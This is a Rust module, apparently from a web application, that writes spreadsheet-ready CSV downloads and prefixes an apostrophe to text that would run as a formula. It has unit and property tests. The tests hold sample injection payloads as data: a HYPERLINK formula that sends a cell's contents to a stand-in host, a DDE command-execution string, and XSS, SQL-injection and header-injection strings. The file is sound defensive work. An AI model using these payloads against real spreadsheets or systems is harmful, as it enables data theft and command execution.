//! CSV files for download, in the form that a spreadsheet program opens rightly by a double click:
//! UTF-8 with BOM, `;` as separator, CRLF.
//!
//! No cell of text can come out as a formula. The price: a phone number `+49 ...` is written with an
//! apostrophe before it, and keeps it when the file is read again.

use std::borrow::Cow;

use jiff::civil::Date;
use thiserror::Error;

/// What one cell of a download holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cell<'a> {
    /// Words; neutralised where a spreadsheet would take them for a formula.
    Text(&'a str),
    /// An exact number, which stays one: `-3`.
    Number(i64),
    /// A day, written as ISO 8601: `2026-03-01`.
    Day(Date),
    /// Nothing.
    Empty,
}

/// Why a download could not be written.
#[derive(Debug, Error)]
pub enum CsvOutError {
    /// A row has not as many cells as there are headers.
    #[error("a row of {found} cells under {expected} headers")]
    UnequalRow {
        /// Number of headers.
        expected: usize,
        /// Number of cells in the row.
        found: usize,
    },
    /// The CSV writer failed.
    #[error("the CSV file could not be written")]
    Writer(#[from] csv::Error),
}

/// A CSV file in the making.
#[derive(Debug)]
pub struct CsvOut {
    columns: usize,
    writer: csv::Writer<Vec<u8>>,
}

impl CsvOut {
    /// Begins a file with its row of headers.
    ///
    /// # Errors
    /// [`CsvOutError::Writer`].
    pub fn new(headers: &[&str]) -> Result<Self, CsvOutError> {
        let mut file = Self {
            columns: headers.len(),
            writer: csv::WriterBuilder::new()
                .delimiter(b';')
                .terminator(csv::Terminator::CRLF)
                .from_writer("\u{feff}".into()),
        };
        let headers: Vec<_> = headers.iter().map(|header| Cell::Text(header)).collect();
        file.row(&headers)?;
        Ok(file)
    }

    /// Adds a row.
    ///
    /// # Errors
    /// [`CsvOutError::UnequalRow`] unless there is one cell for each header.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), CsvOutError> {
        if cells.len() != self.columns {
            return Err(CsvOutError::UnequalRow {
                expected: self.columns,
                found: cells.len(),
            });
        }
        let written = cells.iter().map(|cell| cell.written().into_owned());
        self.writer.write_record(written)?;
        Ok(())
    }

    /// The finished file.
    ///
    /// # Errors
    /// [`CsvOutError::Writer`].
    pub fn finish(self) -> Result<Vec<u8>, CsvOutError> {
        let file = self.writer.into_inner();
        Ok(file.map_err(|error| csv::Error::from(error.into_error()))?)
    }
}

impl<'a> Cell<'a> {
    fn written(self) -> Cow<'a, str> {
        match self {
            Self::Text(text) if looks_like_formula(text) => Cow::Owned(format!("'{text}")),
            Self::Text(text) => Cow::Borrowed(text),
            Self::Number(number) => Cow::Owned(number.to_string()),
            Self::Day(day) => Cow::Owned(day.to_string()),
            Self::Empty => Cow::Borrowed(""),
        }
    }
}

/// OWASP ASVS 5.0, 1.2.10; behind leading blanks as well, since some programs drop those on opening.
fn looks_like_formula(text: &str) -> bool {
    const STARTS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
    text.starts_with(STARTS) || text.trim_start().starts_with(STARTS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use jiff::civil::date;
    use proptest::prelude::*;

    fn file_of(headers: &[&str], rows: &[&[Cell<'_>]]) -> String {
        let mut file = CsvOut::new(headers).unwrap();
        for row in rows {
            file.row(row).unwrap();
        }
        String::from_utf8(file.finish().unwrap()).unwrap()
    }

    /// The one cell under one header, as it stands in the file.
    fn cell_of(cell: Cell<'_>) -> String {
        let file = file_of(&["h"], &[&[cell]]);
        let cell = file.strip_prefix("\u{feff}h\r\n").expect("BOM and header");
        cell.strip_suffix("\r\n").expect("CRLF").to_owned()
    }

    #[test]
    fn a_file_has_bom_semicolons_and_crlf() {
        let file = file_of(
            &["name", "seats", "from"],
            &[
                &[
                    Cell::Text("Köln"),
                    Cell::Number(18),
                    Cell::Day(date(2026, 3, 1)),
                ],
                &[Cell::Text("Ulm"), Cell::Empty, Cell::Empty],
            ],
        );
        assert_eq!(
            file,
            "\u{feff}name;seats;from\r\nKöln;18;2026-03-01\r\nUlm;;\r\n"
        );
    }

    #[test]
    fn a_file_without_rows_still_has_its_headers() {
        assert_eq!(file_of(&["name", "seats"], &[]), "\u{feff}name;seats\r\n");
    }

    #[test]
    fn text_that_a_spreadsheet_would_compute_gets_an_apostrophe() {
        for hostile in [
            "=HYPERLINK(\"http://x?\"&A1)",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3",
            "-3",
            "\t=1+1",
            "\tx",
            "\r=1+1",
            "\rx",
            "\0=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "  =1+1",
            "\u{a0}=1+1",
            "\n=1+1",
            "+49 711 123456",
            "=",
        ] {
            let written = cell_of(Cell::Text(hostile));
            let inner = written.trim_start_matches('"');
            assert!(inner.starts_with('\''), "{hostile:?} came out as {written}");
        }
        assert_eq!(cell_of(Cell::Text("-2+3")), "'-2+3");
        let link = cell_of(Cell::Text("=HYPERLINK(\"http://x?\"&A1)"));
        assert_eq!(link, "\"'=HYPERLINK(\"\"http://x?\"\"&A1)\"");
    }

    #[test]
    fn a_header_is_neutralised_like_any_text() {
        assert_eq!(file_of(&["=1+1"], &[]), "\u{feff}'=1+1\r\n");
    }

    #[test]
    fn other_text_comes_out_as_it_is() {
        for plain in [
            "<script>alert(1)</script>",
            "' OR 1=1--",
            "{{7*7}}",
            "Çağla İnönü-Yıldız",
            "O'Brien",
            "a-b",
            "1+1=2",
            "ẞ",
            "👩🏽‍🏫",
            "name \u{202e}eman",
            "a\u{2028}b",
        ] {
            assert_eq!(cell_of(Cell::Text(plain)), plain);
        }
    }

    #[test]
    fn separators_quotes_and_line_breaks_are_quoted() {
        for (text, written) in [
            ("a;b", "\"a;b\""),
            ("'); DROP TABLE urn;--", "\"'); DROP TABLE urn;--\""),
            ("a\"b", "\"a\"\"b\""),
            ("a\nb", "\"a\nb\""),
            ("x\r\nSet-Cookie: x=1", "\"x\r\nSet-Cookie: x=1\""),
            ("a\rb", "\"a\rb\""),
        ] {
            assert_eq!(cell_of(Cell::Text(text)), written);
        }
    }

    #[test]
    fn numbers_stay_numbers() {
        assert_eq!(cell_of(Cell::Number(-3)), "-3");
        assert_eq!(cell_of(Cell::Number(i64::MIN)), "-9223372036854775808");
        assert_eq!(cell_of(Cell::Number(0)), "0");
    }

    #[test]
    fn a_row_must_have_a_cell_for_each_header() {
        let mut file = CsvOut::new(&["a", "b"]).unwrap();
        for cells in [&[Cell::Empty][..], &[Cell::Empty; 3], &[]] {
            let error = file.row(cells).unwrap_err();
            assert!(matches!(
                error,
                CsvOutError::UnequalRow { expected: 2, found } if found == cells.len()
            ));
        }
        file.row(&[Cell::Number(1), Cell::Number(2)]).unwrap();
        let file = file.finish().unwrap();
        assert_eq!(file, "\u{feff}a;b\r\n1;2\r\n".as_bytes());
    }

    proptest! {
        #[test]
        fn any_text_reads_back_and_never_as_a_formula(texts in proptest::collection::vec("(?s).{0,8}", 3)) {
            let cells: Vec<_> = texts.iter().map(|text| Cell::Text(text)).collect();
            let file = file_of(&["a", "b", "c"], &[&cells]);
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(b';')
                .terminator(csv::Terminator::CRLF)
                .from_reader(file.trim_start_matches('\u{feff}').as_bytes());
            let record = reader.records().next().expect("one row").unwrap();
            for (text, read) in texts.iter().zip(&record) {
                prop_assert!(read.strip_prefix('\'') == Some(text) || read == text);
                prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']));
            }
        }
    }
}
